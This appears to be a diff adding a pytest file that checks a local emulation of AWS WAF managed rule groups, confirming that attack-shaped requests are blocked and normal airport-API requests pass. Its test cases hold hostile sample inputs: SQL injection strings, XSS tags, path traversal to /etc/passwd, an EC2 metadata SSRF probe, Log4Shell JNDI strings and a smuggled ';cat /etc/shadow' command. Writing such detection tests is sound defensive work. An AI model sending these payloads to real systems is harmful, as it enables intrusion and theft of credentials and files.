@@ -1,0 +1,113 @@
+"""What stands in for AWS's managed groups finds each kind of attack in each part of a request, and counts what is only counted."""
+
+import json
+
+import pytest
+
+from local.edge.messages import Request
+from local.edge.modsecurity import looked_at
+from local.edge.refusal import NotUnderstood
+from local.edge.web_acl import WebAcl
+from tests.edge.acls import acl, group, judged, request
+
+COMMON, KNOWN, SQL, ADDRESSES = (
+    f"AWSManagedRules{name}" for name in ("CommonRuleSet", "KnownBadInputsRuleSet", "SQLiRuleSet", "AmazonIpReputationList")
+)
+
+
+@pytest.fixture(scope="module")
+def whole() -> WebAcl:
+    return acl(*(group(name, Name=name) for name in (ADDRESSES, COMMON, KNOWN, SQL)))
+
+
+def item(value: str) -> bytes:
+    return json.dumps({"icao": "EDDF", "name": value, "lat": 50.03}, ensure_ascii=False).encode()
+
+
+@pytest.mark.parametrize(
+    ("asked", "name", "matched"),
+    [
+        (request("/v1/airports?country=PT'%20or%201=1--"), SQL, "SQLi_QUERYARGUMENTS"),
+        (request("/v1/airports/PT'%20or%201=1--"), SQL, "SQLi_URIPATH"),
+        (request(method="PUT", body=item("a' union select 1,2 from users --")), SQL, "SQLi_BODY"),
+        (request(cookie="session=1'%20or%201=1--"), SQL, "SQLi_COOKIE"),
+        (request("/v1/airports?country=%3Cscript%3Ealert(1)%3C/script%3E"), COMMON, "CrossSiteScripting_QUERYARGUMENTS"),
+        (request(method="PUT", body=item("<script>alert(1)</script>")), COMMON, "CrossSiteScripting_BODY"),
+        (request("/v1/airports/..%2f..%2fetc%2fpasswd"), COMMON, "GenericLFI_URIPATH"),
+        (request("/v1/airports?fields=../../../../etc/passwd"), COMMON, "GenericLFI_QUERYARGUMENTS"),
+        (request("/v1/airports?fields=http://169.254.169.254/latest/meta-data"), COMMON, "EC2MetaDataSSRF_QUERYARGUMENTS"),
+        (request("/v1/airports?limit=1%0d%0aSet-Cookie:%20a=b"), COMMON, "CRS"),
+        (request(user_agent=""), COMMON, "NoUserAgent_HEADER"),
+        (request(user_agent="nikto"), COMMON, "UserAgent_BadBots_HEADER"),
+        (request("/v1/airports?after=" + "a" * 2_043), COMMON, "SizeRestrictions_QUERYSTRING"),
+        (request("/v1/" + "a" * 1_021), COMMON, "SizeRestrictions_URIPATH"),
+        (request(method="PUT", body=b'"' + b"a" * 8_191 + b'"'), COMMON, "SizeRestrictions_BODY"),
+        (request(method="PROPFIND"), KNOWN, "PROPFIND_METHOD"),
+        (request(method="PUT", body=item("java.lang.Runtime.getRuntime().exec")), KNOWN, "JavaDeserializationRCE_BODY"),
+        (request(method="PUT", body=item("${jndi:ldap://example.com/a}")), KNOWN, "Log4JRCE_BODY"),
+        (request("/v1/airports", referer="${jndi:ldap://example.com/a}"), KNOWN, "Log4JRCE_HEADER"),
+        (request(method="PUT", body=item(";cat /etc/shadow")), COMMON, "GenericLFI_BODY"),
+    ],
+    ids=lambda value: value if isinstance(value, str) else "",
+)  # fmt: skip
+def test_each_kind_of_attack_is_found_where_it_is(whole: WebAcl, asked: Request, name: str, matched: str) -> None:
+    blocked = judged(whole, asked)
+    assert blocked
+    assert (blocked.rule, [found for found in blocked.matched if found.startswith(matched)] != []) == (name, True)
+
+
+@pytest.mark.parametrize(
+    "asked",
+    [
+        request("/v1/airports?country=PT&elevation.gte=100&sort=-elevation&fields=name,city"),
+        request("/v1/airports?after=" + "a" * 2_040),
+        request(method="PUT", body=item("Chicago O'Hare (north) & D'Arcy's; Ísafjörður, 東京 -- gate #4")),
+        request(method="POST", body=item("D'Arcy") + b"\n" + item("select seats") + b"\n", content_type="application/x-ndjson"),
+        request("/v1/airports/EDDF", if_none_match='"01M83TX6AKPEC90XWTBJRZ90MF"', authorization="Bearer a.b.c"),
+    ],
+    ids=str,
+)
+def test_what_clients_send_is_let_through(whole: WebAcl, asked: Request) -> None:
+    assert judged(whole, asked) is None
+
+
+def test_what_is_only_counted_blocks_nothing_and_the_rest_still_does() -> None:
+    large = request(method="PUT", body=b'"' + b"a" * 9_000 + b'"')
+    assert judged(acl(group(COMMON, "SizeRestrictions_BODY")), large) is None
+    body = request(method="PUT", body=item("<script>alert(1)</script>"))
+    query = request("/v1/airports?country=%3Cscript%3Ealert(1)%3C/script%3E")
+    counting = acl(group(COMMON, "CrossSiteScripting_BODY"))
+    assert (judged(counting, body), judged(counting, query) is not None) == (None, True)
+    assert judged(acl(group(COMMON, OverrideAction={"Count": {}})), query) is None
+
+
+def test_a_group_finds_what_it_is_for_only() -> None:
+    traversal = request("/v1/airports?fields=../../../../etc/passwd")
+    assert judged(acl(group(COMMON)), traversal)
+    assert judged(acl(group(SQL)), traversal) is None
+    assert judged(acl(group(ADDRESSES)), traversal) is None
+
+
+def test_a_rule_that_the_group_has_not_is_refused() -> None:
+    with pytest.raises(NotUnderstood, match="has no rule SizeRestrictions_BODDY"):
+        acl(group(COMMON, "SizeRestrictions_BODDY"))
+
+
+def test_lines_and_what_is_cut_off_are_looked_at_as_far_as_they_go(whole: WebAcl) -> None:
+    lines = item("harmless") + b"\n" + item("a' or 1=1 --") + b"\n"
+    assert judged(whole, request(method="POST", body=lines, content_type="application/x-ndjson"))
+    counted = acl(group(SQL))
+    late = b"[" + b'"x",' * 10_000 + b'"a\' or 1=1 --"]'
+    assert judged(counted, request(method="POST", body=b'["a\' or 1=1 --",' + late[1:]))
+    assert judged(counted, request(method="POST", body=late)) is None  # beyond the 16 KB that the firewall is given
+    assert judged(counted, request(method="POST", body=b"a' or 1=1 -- no JSON at all"))
+
+
+def test_a_body_is_given_as_one_document() -> None:
+    asked = request(method="POST", body=b'{"a":"b\\"c"}\n{"a":"d"}\n{"e":"f', content_type="application/x-ndjson")
+    assert json.loads(looked_at(asked, 1_000)) == ["a", 'b"c', "d", "e"]
+    assert looked_at(request(method="PUT", body=b'{"a":1}'), 1_000) == b'{"a":1}'
+
+
+def test_what_is_no_utf_8_is_judged_like_the_rest(whole: WebAcl) -> None:
+    assert judged(whole, request("/v1/airports?country=%fd%fe'%20or%201=1--"))
